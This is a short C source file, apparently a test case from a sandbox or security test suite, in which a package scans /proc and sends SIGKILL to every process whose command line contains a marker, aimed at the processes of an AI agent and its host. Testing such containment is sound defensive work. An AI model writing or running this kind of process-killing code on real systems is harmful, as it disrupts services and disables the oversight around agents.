// A package finds processes of the agent and of the host, and ends them.
#include <dirent.h>

#include "attack.h"

int main(void) {
  DIR* all = opendir("/proc");
  for (struct dirent* entry; all && (entry = readdir(all));) {
    char path[300], text[4096] = "";
    snprintf(path, sizeof path, "/proc/%s/cmdline", entry->d_name);
    int fd = open(path, O_RDONLY);
    ssize_t size = fd >= 0 ? read(fd, text, sizeof text - 1) : -1;
    close(fd);
    int pid = atoi(entry->d_name);
    if (size > 0 && pid != getpid() && memmem(text, size, arena("MARKER"), strlen(arena("MARKER"))) &&
        kill(pid, SIGKILL) == 0) {
      succeeded(path);
    }
  }
  return 1;
}
